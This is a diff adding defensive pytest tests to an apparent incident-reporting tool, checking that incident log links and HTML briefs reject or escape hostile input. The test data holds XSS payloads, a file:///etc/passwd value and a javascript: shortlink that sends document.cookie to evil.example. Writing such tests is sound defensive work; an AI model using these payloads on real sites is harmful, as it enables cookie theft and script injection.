@@ -288,3 +288,100 @@ st.session_state["seen"] = (list(run.sources), [m.where for m in run.merges], [s
     sources, merged, notes = second.session_state["seen"]
     assert "ours.json" in sources and merged == ["ours.json"], second.session_state["seen"]
     assert not any("alpha" in x for x in [*sources, *merged, *notes])
+
+
+def test_a_workspace_preferences_are_read_by_its_members_only(server, monkeypatch, tmp_path):
+    """Aliases and settings overrides are the team's, like its catalogs: a person who is not (or no longer) a
+    member reads the default, never the team's value (the store checks, whatever the page does)."""
+    monkeypatch.setenv("LYNCHPIN_OWNERS", "olu@nhs.example")
+    owner = Workspace(tmp_path / "workspace.sqlite", person="olu@nhs.example", slug="team")
+    owner.set_pref("aliases", "products:\n  Exchange Online: [Project Phoenix mail]\n")
+    owner.set_member("eve@nhs.example", "viewer")
+    eve = Workspace(tmp_path / "workspace.sqlite", person="eve@nhs.example", slug="team")
+    assert "Phoenix" in eve.pref("aliases", "")
+    owner.set_member("eve@nhs.example", None)
+    outsider = Workspace(tmp_path / "workspace.sqlite", person="eve@nhs.example", slug="team")
+    outsider.store.forget_reads()
+    assert outsider.pref("aliases", "") == "" and outsider.pref("settings_overrides") is None
+
+
+# A link anyone can write ----------------------------------------------------------------------------------
+def _record(**extra) -> dict:
+    from risk.run import load_shipped_history
+
+    row = next(r for r in load_shipped_history() if r.id == "microsoft-20250301").model_dump(mode="json")
+    return {**row, "id": "ours-1", **extra}
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "javascript:alert(document.cookie)",
+        " JaVaScRiPt:alert(1)",
+        "data:text/html,<script>alert(1)</script>",
+        "file:///etc/passwd",
+        "https://status.example/x' onmouseover='alert(1)",
+        "https://status.example/<script>",
+        "https://",
+    ],
+)
+def test_an_incident_log_record_links_only_to_a_web_page(url):
+    """A teammate's incident log (or a provider feed) becomes links in the History page, the HTML report and
+    the incident brief: a javascript:, data: or file: address, or one that breaks out of its attribute, is
+    refused with where it is, never stored as a link."""
+    import json
+
+    from risk.history.load import read_outages
+
+    report = read_outages([("ours.json", json.dumps([_record(source_url=url)]).encode())])
+    assert report.records == [] and report.problems
+    assert "ours.json" in str(report.problems[0].location) and "source_url" in report.problems[0].message
+
+
+@pytest.mark.parametrize("url", ["https://status.example/incidents/1", "http://status.example/(x)", "", None])
+def test_an_incident_log_record_with_a_web_address_or_none_still_reads(url):
+    import json
+
+    from risk.history.load import read_outages
+
+    report = read_outages([("ours.json", json.dumps([_record(source_url=url)]).encode())])
+    assert [r.source_url for r in report.records] == [url or None], report.problems
+
+
+def test_a_statuspage_export_with_a_script_shortlink_leaves_that_incident_out():
+    import json
+
+    from risk.interchange.incidents import import_incidents
+
+    incident = {
+        "id": "inc1",
+        "name": "Okta Verify push notifications failing",
+        "started_at": "2026-11-30T09:00:00Z",
+        "resolved_at": "2026-11-30T10:00:00Z",
+        "impact": "critical",
+        "shortlink": "javascript:fetch('https://evil.example/'+document.cookie)",
+        "components": [{"name": "Okta Verify"}],
+    }
+    doc = {"page": {"id": "p", "name": "Okta"}, "incidents": [incident, {**incident, "id": "inc2", "shortlink": None}]}
+    imported = import_incidents(json.dumps(doc).encode(), "statuspage", "okta.json")
+    assert [r.source_url for r in imported.records] == [None]
+    assert len(imported.skipped) == 1 and "source_url" in str(imported.skipped[0])
+
+
+def test_the_incident_brief_runs_no_script_whatever_its_text():
+    from datetime import UTC, datetime
+
+    from risk.advice.incident import incident
+    from risk.catalog.load import read_catalog
+    from risk.presentation.incident import incident_brief_html
+    from risk.run import Run, load_shipped_history
+
+    run = Run.build(read_catalog(DEFAULT_CATALOG).catalog, load_shipped_history())
+    start, now = datetime(2026, 11, 30, 8, tzinfo=UTC), datetime(2026, 11, 30, 10, tzinfo=UTC)
+    result = incident(run.catalog, run.records, run.settings, ["entra-mfa"], start, now, run.aliases)
+    result.title = "</title><script>alert(1)</script>"
+    page = incident_brief_html(result, "<img src=x onerror=alert(1)>", now)
+    head = page.split("</head>", 1)[0]
+    assert "Content-Security-Policy" in head and "default-src 'none'" in head and "script-src" not in head
+    assert "<script>" not in page and "<img" not in page and "&lt;script&gt;" in page
+    assert all(href.startswith("http") for href in page.split("href='")[1:])
